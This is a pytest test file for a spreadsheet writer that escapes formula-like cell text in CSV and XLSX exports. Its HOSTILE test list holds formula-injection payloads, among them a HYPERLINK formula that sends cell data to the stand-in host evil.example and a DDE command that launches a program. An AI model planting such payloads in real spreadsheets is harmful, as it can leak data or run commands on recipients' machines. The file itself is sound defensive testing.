"""The one formula-safe writer: text a spreadsheet would run comes out as text, in CSV and XLSX."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from vaxrecon.spreadsheets import csv_lines, csv_response, safe_cell, xlsx_file

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "\t=1+1", "\r=1+1"]
HARMLESS = ["Nguyễn Văn Hùng", "Phường Hoàn Kiếm", "a=b", "2+3", "", "O'Brien"]
NUMBERS = [0, 7, -5, -2.5, 1_000_000]


def read_csv(chunks) -> list[list[str]]:
    data = b"".join(chunks)
    assert data.startswith("\ufeff".encode())  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", HARMLESS + NUMBERS + [None, date(2026, 11, 30)])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) is value


def test_csv_cells_come_out_escaped_and_numbers_untouched():
    harmless = [[t, n] for t, n in zip(HARMLESS, NUMBERS, strict=False)]
    rows = read_csv(csv_lines([["name", "n"], *[[t, -1] for t in HOSTILE], *harmless]))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:1 + len(HOSTILE)]] == ["'" + t for t in HOSTILE]
    assert {r[1] for r in rows[1:1 + len(HOSTILE)]} == {"-1"}  # a negative number stays a number
    assert [r[0] for r in rows[1 + len(HOSTILE):]] == HARMLESS[:len(NUMBERS)]
    assert [r[1] for r in rows[1 + len(HOSTILE):]] == [str(n) for n in NUMBERS]


def test_csv_is_written_in_pieces_for_a_long_iterable():
    pieces = list(csv_lines([n, f"row {n}"] for n in range(2000)))
    assert len(pieces) > 1
    assert len(read_csv(pieces)) == 2000


def test_the_whole_file_csv_response_is_an_attachment_with_the_same_cells():
    response = csv_response([["name"], ["=1+1"]], filename="report-20261130.csv")
    assert response["Content-Disposition"] == 'attachment; filename="report-20261130.csv"'
    assert read_csv([response.content]) == [["name"], ["'=1+1"]]


def test_xlsx_cells_come_out_escaped_and_numbers_stay_numbers():
    fh = xlsx_file([["name", "n"], *[[t, -1] for t in HOSTILE], ["Nguyễn Văn Hùng", -2.5],
                    ["bad\x01control", 3]], title="Test")
    sheet = openpyxl.load_workbook(fh).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("name", "n")
    # (XML reads a carriage return back as a line feed; the quote in front is what matters.)
    assert [r[0] for r in values[1:1 + len(HOSTILE)]] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert all(r[1] == -1 and isinstance(r[1], int) for r in values[1:1 + len(HOSTILE)])
    assert values[-2] == ("Nguyễn Văn Hùng", -2.5)
    assert values[-1] == ("badcontrol", 3)  # characters a sheet cannot hold are dropped, not an error
    # No cell is stored as a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
